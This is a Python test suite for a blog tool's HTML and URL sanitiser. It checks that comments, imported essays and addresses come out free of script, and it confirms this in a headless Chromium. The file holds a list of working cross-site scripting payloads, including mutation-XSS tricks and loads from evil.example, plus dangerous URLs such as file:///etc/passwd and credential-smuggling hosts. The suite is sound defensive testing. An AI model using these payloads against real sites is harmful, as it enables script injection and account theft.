"""Untrusted HTML and URLs, made safe: judged by a parser and a browser that have no part in making them so."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import html5lib
import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser, Dialog, Route, sync_playwright

from blogkit.reading import sanitize
from blogkit.reading.sanitize import comment, imported, url

ROOT = Path(__file__).parent.parent
ATTACKS = ROOT.parent / "shared" / "data" / "attacks"

OWN = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "<sc<script>ript>alert(1)</sc</script>ript>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img/src="x"/onerror="alert(1)">',
    "<IMG SRC=&#106;avascript:alert(1)>",
    '<p onclick="alert(1)" ONMOUSEOVER=alert(2)>a</p>',
    "<a href=javascript:alert(1)>a</a>",
    '<a href=" \tjava\nscript\r:alert(1)">a</a>',
    '<a href="&#1;javascript:alert(1)">a</a>',
    '<a href="java&#1;script:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href=http://example.org/ title="&quot;><img src=x onerror=alert(1)>">a</a>',
    '<q cite="javascript:alert(1)">a</q>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></p></textarea><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)><img src=x onerror=alert(1)></iframe>",
    "<iframe><!--</iframe><img src=x onerror=alert(1)>-->",
    "<object data=javascript:alert(1)><embed src=//evil.example/x.swf></object>",
    "<form action=javascript:alert(1)><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css';</style>",
    "<div style=\"position:fixed;inset:0;background:url('javascript:alert(1)')\">a</div>",
    "<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a><table><td><a><b><p></a></table><svg><b>",
    "http://example.org/\"onmouseover=alert(1)//'<b>",
)


def payloads(corpus: str) -> list[str]:
    """Return a corpus of attacks: the small one that lies here, or one of the large ones where there is one."""
    if corpus == "own":
        return list(OWN)
    path = ATTACKS / corpus
    if not path.exists():
        pytest.skip(f"There is no {corpus} in ../shared/data/attacks.")
    lines = path.read_text(encoding="utf-8").split("\n")
    if corpus.endswith(".jsonl"):
        return [json.loads(line)["payload"] for line in lines if line]
    return lines


CORPORA = pytest.mark.parametrize("corpus", ["own", "xss.jsonl", "blns.txt"])

# What comes out, read by html5lib, which parses as browsers do.

XHTML = "{http://www.w3.org/1999/xhtml}"
IN_COMMENTS = {
    name: {"dir", "lang", "title"}
    for name in "abbr acronym b blockquote br caption code cite dd del div dl dt em h3 h4 h5 h6 hr i ins kbd li ol p"
    " pre q s samp small strike strong sub sup table tbody td tfoot th thead tr tt u ul a".split()
}
IN_COMMENTS["a"] |= {"href", "rel"}
IN_COMMENTS["ol"] |= {"start"}
for _name in ("blockquote", "q", "del", "ins"):
    IN_COMMENTS[_name] |= {"cite", "datetime"}
for _name in ("td", "th"):
    IN_COMMENTS[_name] |= {"colspan", "rowspan"}

NEVER = set(
    "script style link meta base object embed param applet form input button select option textarea template svg math"
    " frame frameset noscript portal fencedframe".split()
)
HARMLESS_SCHEMES = set("http https mailto ftp geo irc ircs magnet news sms tel webcal xmpp".split())
ADDRESSES = {"href", "src", "cite", "poster", "longdesc", "background", "action", "formaction", "data", "xlink:href"}
STARTS = ("", "//", "http://", "https://example.org", "http://example.org/")
VOID = set("area br col hr img source track wbr".split())


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Yield (name, attributes) of each element; the name of one that is not HTML keeps its namespace."""
    for element in html5lib.parseFragment(html, container="div").iter():
        if element.tag != "DOCUMENT_FRAGMENT":
            assert isinstance(element.tag, str), "a comment is left"
            yield element.tag.removeprefix(XHTML), dict(element.attrib)


def words(html: str) -> str:
    """Return the text that a reader sees."""
    return "".join(html5lib.parseFragment(html, container="div").itertext())


def scheme(address: str) -> str:
    """Return the scheme as browsers find it: without blanks in front, and tabs and line breaks nowhere."""
    address = re.sub(r"[\t\r\n]", "", re.sub(r"^[\x00-\x20]+", "", address))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", address)
    return match[1].lower() if match else ""


class Balance(HTMLParser):
    """Raises when an end tag does not match; `open` holds what was left open."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: object) -> None:
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def assert_fit_for_comments(html: str) -> None:
    for name, attributes in elements(html):
        assert name in IN_COMMENTS, name
        assert attributes.keys() <= IN_COMMENTS[name], (name, attributes)
        assert scheme(attributes.get("href", "")) in {"", "http", "https", "mailto"}, attributes
        assert scheme(attributes.get("cite", "")) in {"", "http", "https"}, attributes
        assert name != "a" or attributes["rel"] == "nofollow ugc"
    assert Balance(html).open == []
    assert comment(html) == html


def assert_fit_for_essays(html: str) -> None:
    for name, attributes in elements(html):
        assert name not in NEVER
        assert "{" not in name
        for key, value in attributes.items():
            assert not key.startswith(("on", "data-")), (name, key)
            assert key not in {"srcdoc", "action", "formaction", "ping", "http-equiv", "background", "form"}, key
            if key in ADDRESSES:
                inline = name == "img" and re.match(r"data:image/(png|gif|jpe?g|webp|avif)[;,]", value.strip().lower())
                allowed = HARMLESS_SCHEMES if key == "href" else {"http", "https"}
                assert inline or scheme(value) in {"", *allowed}, (name, key, value)
            if key == "srcset":
                assert {scheme(word) for word in re.split(r"[\s,]+", value)} <= {"", "http", "https"}, value
            if key == "style":
                assert not re.search(r"position:(?!$)|behavior|-moz-binding|javascript:|inset|z-index", value), value
    assert Balance(html).open == []
    assert imported(html) == (html, ())


def assert_fit_for_links(address: str) -> None:
    if address:
        parts = urlsplit(address)
        assert parts.scheme in {"http", "https"}
        assert parts.hostname
        assert "@" not in parts.netloc
        assert not re.search(r"[^!-~]|[\\\"<>]", address)
        assert url(address) == address


@CORPORA
def test_no_attack_gets_through_a_comment(corpus: str) -> None:
    """Only the elements, attributes and schemes of the narrow policy are left of any payload."""
    for payload in payloads(corpus):
        assert_fit_for_comments(comment(payload))
        assert_fit_for_comments(comment(f"<p>{payload}</p>"))


@CORPORA
def test_no_attack_gets_through_an_import(corpus: str) -> None:
    """Nothing that runs, asks for input or hides an address is left of any payload."""
    for payload in payloads(corpus):
        assert_fit_for_essays(imported(payload)[0])
        assert_fit_for_essays(imported(f'<div class="essay">{payload}</div>')[0])


@CORPORA
def test_no_attack_gets_through_as_an_address(corpus: str) -> None:
    """A payload in place of a URL, or after the beginning of one, makes a plain web address or nothing."""
    for payload in payloads(corpus):
        for start in STARTS:
            assert_fit_for_links(url(f"{start}{payload}"))


# Comments


@pytest.mark.parametrize(
    "html",
    [
        "<p>Not so.</p>",
        "<p>A <em>word</em>, <strong>loud</strong><br>and <code>code &lt;b&gt;</code></p>\n<blockquote>q</blockquote>",
        '<ul>\n<li lang="fr" dir="ltr">un</li>\n</ul>\n<ol start="3"><li><abbr title="three">3</abbr></li></ol>',
        '<table><tbody><tr><th>a</th><td colspan="2">b</td></tr></tbody></table>',
        '<a href="mailto:a@example.org" rel="nofollow ugc">write</a>',
        '<a href="#comment-5" rel="nofollow ugc">above</a> <a href="/2012/05/x/" rel="nofollow ugc">here</a>',
        '<pre lang="python">\n\nif x:\n    y</pre>',
        '<blockquote cite="https://example.org/">a</blockquote> it\'s "quoted" &amp; fine',
        "",
    ],
)
def test_what_a_commenter_may_write_stays_as_it_is(html: str) -> None:
    """A comment within the policy comes out byte for byte."""
    assert comment(html) == html


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ('<p class="c" id="d" style="color:red">a', "<p>a</p>"),
        ("<p>a <blink>b</blink> c", "<p>a b c</p>"),
        ("<b><i>a</b>b</i>", "<b><i>a</i></b><i>b</i>"),
        ("I like <svg> and <title> and <select> and <b>more</b>", "I like  and  and  and <b>more</b>"),
        ("<iframe src=http://example.org/>words</iframe> more", "words more"),
        ("<iframe>words, and no end", "words, and no end"),
        ("a<!-- b -->c", "ac"),
        ("a\x00b\x08c&#1;d\ud800e\r\nf", "abcde\nf"),
        ('<q cite="javascript:1">a</q>', "<q>a</q>"),
        (
            '<a href="http://example.org/" rel="friend" target="_top">a</a>',
            '<a href="http://example.org/" rel="nofollow ugc">a</a>',
        ),
    ],
)
def test_what_else_a_commenter_writes_leaves_its_words(html: str, clean: str) -> None:
    """The marks go, the words stay, and what is open is closed."""
    assert comment(html) == clean


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        (
            '<img src="http://example.org/a.png" alt="A cat" width="9">',
            '<a href="http://example.org/a.png" rel="nofollow ugc">A cat</a>',
        ),
        ('<IMG SRC="/a.png">', '<a href="/a.png" rel="nofollow ugc">/a.png</a>'),
        (
            '<a href="/big.png"><img src="/small.png" alt="A cat"></a>',
            '<a href="/big.png" rel="nofollow ugc">A cat</a>',
        ),
        ('<a href="/big.png"><img src="/small.png"></a>', '<a href="/big.png" rel="nofollow ugc">/small.png</a>'),
        ('<img src="javascript:alert(1)" alt="A &quot;cat&quot; &lt;3">', 'A "cat" &lt;3'),
        ("a<img>b", "ab"),
    ],
)
def test_a_picture_becomes_a_link(html: str, clean: str) -> None:
    """Its words are the picture's own, or else its address; inside a link there is no second link."""
    assert comment(html) == clean


def link(address: str, text: str = "") -> str:
    return f'<a href="{address}" rel="nofollow ugc">{text or address}</a>'


@pytest.mark.parametrize(
    ("text", "linked"),
    [
        ("see http://example.org/a now", f"see {link('http://example.org/a')} now"),
        ("HTTPS://Example.org/A", link("https://example.org/A", "HTTPS://Example.org/A")),
        ("www.example.org", link("http://www.example.org", "www.example.org")),
        ("http://example.org/?a=1&amp;b=2", link("http://example.org/?a=1&amp;b=2")),
        ("http://example.org/ü", link("http://example.org/%C3%BC", "http://example.org/ü")),
        ("(http://example.org/a_(b)).", f"({link('http://example.org/a_(b)')})."),
        ("Is it http://example.org/?!", f"Is it {link('http://example.org/')}?!"),
        ("[http://example.org]", f"[{link('http://example.org')}]"),
        ("&lt;http://example.org&gt;", f"&lt;{link('http://example.org')}&gt;"),
        ("“http://example.org”", f"“{link('http://example.org')}”"),
        ("看：http://example.org。好", f"看：{link('http://example.org')}。好"),
        ("http://example.org&nbsp;a", f"{link('http://example.org')}&nbsp;a"),
        (
            "http://example.org, www.example.com",
            f"{link('http://example.org')}, {link('http://www.example.com', 'www.example.com')}",
        ),
        ("<b>http://example.org</b>", f"<b>{link('http://example.org')}</b>"),
    ],
)
def test_an_address_in_the_text_becomes_a_link(text: str, linked: str) -> None:
    """The sentence keeps its punctuation, and the address keeps its own."""
    assert comment(text) == linked


@pytest.mark.parametrize(
    "text",
    [
        "<code>http://example.org</code>",
        "<pre>a <b>http://example.org</b></pre>",
        f"<p>{link('http://example.org/', 'see <b>www.example.org</b>')}</p>",
        "http://",
        "http://user@example.org/",
        "xhttp://example.org",
        "ftp://example.org",
        "me@www.example.org",
        "awww.example",
        "www.",
        "http://example.org/" + "a" * 2000,
    ],
)
def test_other_text_does_not_become_a_link(text: str) -> None:
    """Code is quoted as it is, a link is one already, and what only looks like an address is left alone."""
    assert comment(text) == text


# Essays


@pytest.mark.parametrize(
    "html",
    [
        '<h2 id="a" class="b">A</h2>\n<p style="text-align:center" lang="en">b</p>',
        '<figure class="wp-caption" style="width:310px"><img src="/a.jpg" alt="A"></figure>',
        '<picture><source srcset="/s.jpg 1x, /b.jpg 2x" media="print"><img src="/s.jpg" sizes="9em"></picture>',
        "<figure><figcaption>a</figcaption></figure>",
        '<iframe src="//player.example/1" width="560" height="315" frameborder="0" allowfullscreen=""></iframe>',
        '<video poster="/a.jpg" controls=""><source src="https://example.org/a.webm" type="video/webm"></video>',
        '<audio src="/a.mp3" controls=""></audio>',
        '<details open=""><summary>a</summary>b</details>',
        '<table border="1"><tbody><tr><td bgcolor="#fff">a</td></tr></tbody></table>',
        '<p style="background:url(&quot;/a.png&quot;);border-left-width:1px">a</p>',
        '<center><font color="red" size="+1">a</font></center>',
        '<a name="top" href="ftp://example.org/" rel="me" target="_blank" aria-label="a">a</a>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "<pre>\n\n  a</pre>",
    ],
)
def test_ordinary_html_of_an_essay_stays_as_it_is(html: str) -> None:
    """Pictures, players, tables, anchors and styles of twenty years come out byte for byte, with nothing to report."""
    assert imported(html) == (html, ())


@pytest.mark.parametrize(
    ("html", "clean", "removed"),
    [
        ('a<script>document.write("<b>x</b>")</script>b', "ab", ["<script> with 26 characters"]),
        ("<style>b{}</style>", "", ["<style> with 3 characters"]),
        ("<script>;</script>", "", ["<script> with 1 character"]),
        ("<script src='//polls.example/1.js'></script>", "", ["<script> from //polls.example/1.js"]),
        (
            "<script>if (i<n) s = 'don't'</script><p title='it'>a</p>",
            '<p title="it">a</p>',
            ["<script> with 20 characters"],
        ),
        (
            '<a href="/" onclick="x()" data-id=3>a</a>',
            '<a href="/">a</a>',
            ["attribute onclick of <a>", "attribute data-id of <a>"],
        ),
        ("<a href=javascript:x()>a</a> <a href='/b'>b</a>", '<a>a</a> <a href="/b">b</a>', ["attribute href of <a>"]),
        ("<noscript><a href='/poll'>a poll</a></noscript>", '<a href="/poll">a poll</a>', ["<noscript>"]),
        (
            '<object width="425"><param name="movie" value="http://video.example/v/1"><embed src="http://video.example/v/1"></object>',
            "",
            ["<object>", "<param> from http://video.example/v/1", "<embed> from http://video.example/v/1"],
        ),
        ("<form action='/go'><input name=q> <button>Go</button></form>", " Go", ["<form>", "<input>", "<button>"]),
        (
            "<a href='/'><svg viewBox='0 0 1 1'><path d='M0'/></svg>June</a>",
            '<a href="/">June</a>',
            ["<svg>", "<path>"],
        ),
        ("<math><mi>x</mi><mo>=</mo><mn>1</mn></math>", "x=1", ["<math>", "<mi>", "<mo>", "<mn>"]),
        (
            '<p STYLE="COLOR: red; POSITION: fixed; top: 0">a</p><p style="position:fixed">b</p>',
            '<p style="color:red">a</p><p>b</p>',
            ["style position of <p>", "style top of <p>", "style position of <p>"],
        ),
        ("<iframe src=/a srcdoc=b>no frames</iframe>", '<iframe src="/a"></iframe>', ["attribute srcdoc of <iframe>"]),
        ("<iframe src=mailto:a@example.org></iframe>", "<iframe></iframe>", ["attribute src of <iframe>"]),
        (
            "<img src=data:text/html,x srcset='data:x 1x'>",
            "<img>",
            ["attribute src of <img>", "attribute srcset of <img>"],
        ),
        ("<video poster=data:image/png,x></video>", "<video></video>", ["attribute poster of <video>"]),
        ("a<!-- a note\n to myself -->b", "ab", ["comment “a note to myself”"]),
        ("&lt;gmaxwell&gt; hi <gmaxwell> ho", "&lt;gmaxwell&gt; hi  ho", ["<gmaxwell>"]),
        ("<td>a</td>", "a", ["<td>"]),
    ],
)
def test_each_removal_is_told_in_words(html: str, clean: str, removed: list[str]) -> None:
    """The ledger says what was taken, and from where it would have loaded; words stay."""
    assert imported(html) == (clean, tuple(removed))


# Addresses


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("http://example.org/", "http://example.org/"),
        ("https://example.org", "https://example.org"),
        ("  HTTP://Example.ORG/Path?Q=A#F\n", "http://example.org/Path?Q=A#F"),
        ("example.org/x", "http://example.org/x"),
        ("www.example.org", "http://www.example.org"),
        ("//example.org/x", "http://example.org/x"),
        ("example.org:8080", "http://example.org:8080"),
        ("http://example.org:80/", "http://example.org/"),
        ("https://example.org:443?a", "https://example.org?a"),
        ("https://example.org:80/", "https://example.org:80/"),
        ("http://http://example.org/", "http://example.org/"),
        ("http://https://example.org/", "https://example.org/"),
        ("http://localhost:8000/", "http://localhost:8000/"),
        ("http://127.0.0.1/", "http://127.0.0.1/"),
        ("http://bücher.example/", "http://xn--bcher-kva.example/"),
        ("http://straße.example/", "http://xn--strae-oqa.example/"),
        ("http://ＥＸＡＭＰＬＥ.org/", "http://example.org/"),
        ("http://exam\u200bple\u3002org/", "http://example.org/"),
        ("http://example.org./", "http://example.org./"),
        ("http://example.org/é|\"<'`{", "http://example.org/%C3%A9%7C%22%3C'%60%7B"),
        ("http://example.org/%7Ea%zz", "http://example.org/%7Ea%zz"),
        ("http://example.org/@me:x", "http://example.org/@me:x"),
        ("http://example.org/?u=http://other.example/", "http://example.org/?u=http://other.example/"),
    ],
)
def test_a_web_address_passes(value: str, safe: str) -> None:
    """Scheme and host are put in their usual form, and the rest is percent-encoded where it must be."""
    assert url(value) == safe


@pytest.mark.parametrize(
    "value",
    [
        *("", " ", "http://", "http:///path", "https://?q", "http:example.org", "http:/example.org"),
        *("//", "/path", "?q", "#f", "C:/file", "http://a:b:c/"),
        *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)"),
        *("data:text/html,x", "vbscript:x", "file:///etc/passwd", "ftp://example.org/", "mailto:me@example.org"),
        *("javascript://example.org/%0aalert(1)", "feed:http://example.org/", "blob:http://example.org/x"),
        *("http://user@example.org/", "http://user:secret@example.org/", "http://example.org@evil.example/"),
        *("http://example.org\\@evil.example/", "http:\\\\example.org", "\\\\example.org", "http://example.org/\\x"),
        *("http://exa mple.org/", "http://example.org/a b", "http://example.org/a\tb", "http://example.org/\u3000"),
        *("http://example.org/\x00", "http://example.org/\x7f", "http://example.org/\x9f", "http://example.org/\ud800"),
        *("http://example.org:99999/", "http://example.org:x/", "http://example.org:/", "http://example.org:80:80/"),
        *("http://.example.org/", "http://example..org/", "http://./", f"http://{'a' * 64}.org/", "http://[::1]/"),
        *("http://exam%70le.org/", "http://exa<b>mple.org/", "http://example.org\u2215x/"),
        *("http://example\uff0fevil.org/", "http://\u202eexample.org/", "http://\u0301a.org/"),
        *("http://abc\u05d0.org/", "http://xn--a.org/", f"http://{'a.' * 200}org/"),
        *("http://256.1.1.1/", "http://1.2.3/", "http://0x7f.1/", "http://example.1/", "2130706433"),
        *("example", "none", "n/a", "N.A.", "e.g", "me@example.org", "1.5", "example.org:", "John Smith"),
    ],
)
def test_anything_else_is_no_address(value: str) -> None:
    """A browser might read it otherwise than a person does, so it does not pass."""
    assert url(value) == ""


# Laws

PIECES = st.one_of(
    st.sampled_from(OWN),
    st.text(max_size=6),
    st.sampled_from(["\n", "\n\n", " ", "&lt;", "&#1;", "&nbsp;", "<!--", "-->", "]]>", "<", ">", '"', "'", "/>"]),
    st.builds(
        "<{}{}{}>".format,
        st.sampled_from(["", "", "/"]),
        st.sampled_from(
            "a b i p br pre ul li table tr td caption blockquote div h2 h3 code q dl dd img iframe svg math script"
            " style title textarea select option form button object nobr font details ruby rt video span col template"
            " noscript mi annotation-xml foreignObject marquee plaintext body html image xmp gmaxwell".split()
        ),
        st.sampled_from(
            ["", "", "", " href=http://x.example/", " title='<b>'", " style='color:red;top:0'", " id=q on=1"]
        ),
    ),
    st.sampled_from(["http://example.org/a).", "www.example.org", "http://user@example.org"]),
)
SOUP = st.lists(PIECES, max_size=25).map("".join)
TEXT = st.text(st.characters(exclude_categories=["Cc", "Cs"], exclude_characters="\ufffe\uffff") | st.just("\n"))


@settings(deadline=None)
@given(SOUP)
def test_any_comment_comes_out_fit_and_settled(html: str) -> None:
    """Whatever goes in: what comes out is within the policy, balanced, and comes out the same a second time."""
    assert_fit_for_comments(comment(html))


@settings(deadline=None)
@given(SOUP)
def test_any_essay_comes_out_fit_and_settled(html: str) -> None:
    """The same for the wider policy; and a second time there is nothing to report."""
    assert_fit_for_essays(imported(html)[0])


@settings(deadline=None)
@given(TEXT | TEXT.map(lambda text: f"http://{text}"))
def test_text_stays(text: str) -> None:
    """Text without marks is kept to the letter, whether or not a part of it becomes a link."""
    html = f"<p>{escape(text)}</p>"
    assert words(comment(html)) == words(imported(html)[0]) == text


@settings(deadline=None)
@given(st.lists(st.sampled_from("one two <p> </p> <b> </b> <form> <svg> <title> <object> </object> <x>".split())))
def test_words_keep_their_order(pieces: list[str]) -> None:
    """Marks may go or move, known or unknown, closed or not; the words around them do neither."""
    html = " ".join(pieces)
    expected = re.sub(r"<[^>]*>", "", html).split()
    assert words(comment(html)).split() == words(imported(html)[0]).split() == expected


@settings(deadline=None)
@given(st.text() | TEXT.map(lambda text: f"http://{text}"))
def test_any_address_is_safe(value: str) -> None:
    """An address that passes is a web address with a host and no credentials, and passes again unchanged."""
    assert_fit_for_links(url(value))


@settings(deadline=None)
@given(SOUP)
def test_what_looks_known_is_known(html: str) -> None:
    """Tags are looked at one by one only where one may be unknown; nothing would be taken off anywhere else."""
    for policy in (sanitize._COMMENT, sanitize._ILLUSTRATED, sanitize._ESSAY):
        assert policy.unknown.search(html) or sanitize._flat(policy.tags, html) == html


def test_html_that_never_settles_leaves_its_text() -> None:
    """Should a policy for ever find something to change in its own output, no marks are trusted at all."""
    restless = nh3.Cleaner(
        tags={"p"}, attributes={"p": {"title"}}, attribute_filter=lambda tag, name, value: value + "!"
    )
    policy = sanitize._Policy({"p"}, restless)
    assert sanitize._settled(policy, '<p title="a">b &lt;c</p>') == "b &lt;c"


def test_the_same_input_gives_the_same_bytes() -> None:
    """Neither the process nor the seed of Python's hashes shows in the output."""
    program = (
        "import json, sys; from blogkit.reading.sanitize import comment, imported\n"
        "print([(comment(html), imported(html)) for html in json.load(sys.stdin)])"
    )
    outputs = {
        subprocess.run(
            [sys.executable, "-c", program],
            input=json.dumps(OWN),
            env={**os.environ, "PYTHONHASHSEED": seed, "PYTHONIOENCODING": "utf-8"},
            cwd=ROOT,
            capture_output=True,
            check=True,
            encoding="utf-8",
        ).stdout
        for seed in ("1", "2", "3")
    }
    assert len(outputs) == 1


# In a browser

HOME = "http://blogkit.test/"
EVENTS = "error load click mouseover focus toggle animationstart begin submit pointerrawupdate".split()


class Visit(NamedTuple):
    """What happened while a browser showed a page."""

    dialogs: list[str]
    scripts: list[str]
    """What the browser calls a violation of a rule that allows no script at all, and only reports."""
    requests: list[tuple[str, str]]
    """(kind, address) of each but the page's own."""
    found: dict[str, Any]
    """What FIND returns."""


WATCH = """
window.violations = []
addEventListener("securitypolicyviolation", event => violations.push(event.blockedURI + " " + event.sample), true)
"""
FIND = """
async events => {
  for (const element of document.querySelectorAll("body *"))
    for (const name of events) element.dispatchEvent(new Event(name, { bubbles: true, cancelable: true }))
  await new Promise(done => setTimeout(done, 500))
  const outputs = [...document.querySelectorAll("body > div")]
  const within = outputs.flatMap(output => [...output.querySelectorAll("*")])
  return {
    read: outputs.map(output => output.innerHTML),
    end: document.body.lastElementChild.id,
    title: document.title,
    handlers: within.flatMap(element => element.getAttributeNames().filter(name => name.startsWith("on"))),
    schemes: [...new Set(within.filter(element => element.href).map(element => element.protocol))].sort(),
    violations,
  }
}
"""


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    named = os.environ.get("BLOGKIT_CHROMIUM")
    path = named or next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if not path:
        pytest.skip("There is no Chromium: name one in BLOGKIT_CHROMIUM.")
    with sync_playwright() as playwright:
        options = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        browser = playwright.chromium.launch(executable_path=path, args=options)
        yield browser
        browser.close()


def visit(browser: Browser, outputs: list[str]) -> Visit:
    """Show all outputs on one page, each in a `<div>` of its own, and touch everything on it."""
    dialogs: list[str] = []
    requests: list[tuple[str, str]] = []
    divisions = "".join(f"<div>{html}</div>\n" for html in outputs)
    body = f'<!doctype html><meta charset="utf-8"><title>quiet</title><body>{divisions}<p id="end"></p>'
    policy = {"Content-Security-Policy-Report-Only": "script-src 'none' 'report-sample'"}

    def answer(route: Route) -> None:
        if route.request.url == HOME:
            route.fulfill(body=body, content_type="text/html; charset=utf-8", headers=policy)
        else:
            requests.append((route.request.resource_type, route.request.url))
            route.abort()

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page = browser.new_page()
    page.on("dialog", dismiss)
    page.route("**/*", answer)
    page.add_init_script(WATCH)
    page.goto(HOME)
    found = page.evaluate(FIND, EVENTS)
    assert page.url == HOME
    page.close()
    return Visit(dialogs, found["violations"], requests, found)


@pytest.mark.browser
def test_the_browser_would_tell(chromium: Browser) -> None:
    """The test of the test: what is not sanitised shows a dialog, runs, loads, and breaks out of its place."""
    attack = (
        "<script>document.title = 'loud'</script><img src=/x.png onerror=alert(1)></div><a href='javascript:alert(2)'>"
    )
    seen = visit(chromium, [attack])
    assert seen.dialogs[:1] == ["1"]
    assert len(seen.scripts) >= 2
    assert seen.requests == [("image", f"{HOME}x.png")]
    assert seen.found["title"] == "loud"
    assert seen.found["end"] != "end"


@pytest.mark.browser
@CORPORA
def test_a_browser_runs_nothing_that_a_commenter_wrote(chromium: Browser, corpus: str) -> None:
    """No dialog, no script, not one request; and the browser reads exactly what the policy wrote."""
    outputs = [comment(payload) for payload in payloads(corpus)]
    seen = visit(chromium, outputs)
    assert (seen.dialogs, seen.scripts, seen.requests) == ([], [], [])
    assert (seen.found["title"], seen.found["end"], seen.found["handlers"]) == ("quiet", "end", [])
    assert set(seen.found["schemes"]) <= {"http:", "https:", "mailto:"}
    assert_read_as_written(seen, outputs)


@pytest.mark.browser
@CORPORA
def test_a_browser_runs_nothing_that_an_importer_brought(chromium: Browser, corpus: str) -> None:
    """Pictures, players and frames are asked for, and nothing else happens."""
    outputs = [imported(payload)[0] for payload in payloads(corpus)]
    seen = visit(chromium, outputs)
    assert (seen.dialogs, seen.scripts) == ([], [])
    assert {kind for kind, _ in seen.requests} <= {"image", "media", "document"}
    assert (seen.found["title"], seen.found["end"], seen.found["handlers"]) == ("quiet", "end", [])
    assert {scheme.removesuffix(":") for scheme in seen.found["schemes"]} <= HARMLESS_SCHEMES
    assert_read_as_written(seen, outputs)


def assert_read_as_written(seen: Visit, outputs: list[str]) -> None:
    """A browser drops the first line break of a `<pre>` when it reads, and does not put it back when it writes."""
    assert seen.found["read"] == [re.sub(r"(<pre[^>]*>)\n", r"\1", html) for html in outputs]


@pytest.mark.browser
@CORPORA
def test_a_browser_reads_an_address_as_we_do(chromium: Browser, corpus: str) -> None:
    """Of any address that passes, a browser finds the scheme and port that we found, a host, and no credentials."""
    addresses = sorted({url(f"{start}{payload}") for payload in payloads(corpus) for start in STARTS} - {""})
    page = chromium.new_page()
    read = page.evaluate(
        "all => all.map(one => new URL(one)).map(one => [one.protocol, one.host, one.username + one.password])",
        addresses,
    )
    page.close()
    for address, (protocol, host, credentials) in zip(addresses, read, strict=True):
        parts = urlsplit(address)
        assert (protocol, credentials) == (f"{parts.scheme}:", "")
        assert host == parts.netloc
